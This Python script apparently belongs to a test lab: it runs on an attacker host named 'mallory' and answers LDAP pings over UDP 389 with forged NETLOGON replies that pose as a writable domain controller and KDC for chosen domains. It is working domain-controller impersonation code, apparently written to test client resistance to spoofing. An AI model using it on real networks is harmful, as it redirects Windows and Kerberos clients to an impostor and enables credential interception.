# SPDX-License-Identifier: MIT
"""Runs inside mallory: what an impostor of a DC needs besides a KDC.

usage: impostor.py ping DOMAIN=HOST ...   answers LDAP pings on 389/udp as a
                                          domain controller of those domains
"""
import os
import socket
import struct
import sys
import threading

ANSWER = 23  # LOGON_SAM_LOGON_RESPONSE_EX
FLAGS = 0x1 | 0x4 | 0x8 | 0x10 | 0x20 | 0x40 | 0x80 | 0x100  # a writable DC and KDC, close by


def ber(tag, content):
    size = len(content)
    length = bytes([size]) if size < 0x80 else b"\x82" + size.to_bytes(2, "big")
    return bytes([tag]) + length + content


def name(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".") if label) \
        + b"\0"


def netlogon(domain, host):
    """NETLOGON_SAM_LOGON_RESPONSE_EX without compression."""
    flat = domain.split(".")[0].upper()
    return (struct.pack("<HHI", ANSWER, 0, FLAGS) + bytes(16)
            + name(domain) + name(domain) + name(host) + name(flat)
            + name(host.split(".")[0].upper()) + name("") + name("Default-First-Site-Name")
            + name("Default-First-Site-Name") + struct.pack("<IHH", 5, 0xFFFF, 0xFFFF))


def message_id(request):
    """The INTEGER right after the LDAPMessage header."""
    at = 2 if request[1] < 0x80 else 2 + (request[1] & 0x7F)
    return request[at:at + 2 + request[at + 1]]


def answer(request, domains):
    domain = next((d for d in domains if d.encode() in request.lower()), None)
    number = message_id(request)
    done = ber(0x30, number + ber(0x65, b"\x0a\x01\0\x04\0\x04\0"))
    if domain is None:
        return done
    value = ber(0x31, ber(0x04, netlogon(domain, domains[domain])))
    attribute = ber(0x30, ber(0x30, ber(0x04, b"Netlogon") + value))
    return ber(0x30, number + ber(0x64, ber(0x04, b"") + attribute)) + done


def end_with_input():
    sys.stdin.read()
    os._exit(0)


def main():
    threading.Thread(target=end_with_input, daemon=True).start()
    domains = dict(pair.split("=", 1) for pair in sys.argv[2:])
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", 389))
    print("ready", flush=True)
    while True:
        request, sender = sock.recvfrom(4096)
        sock.sendto(answer(request, domains), sender)


if __name__ == "__main__":
    main()
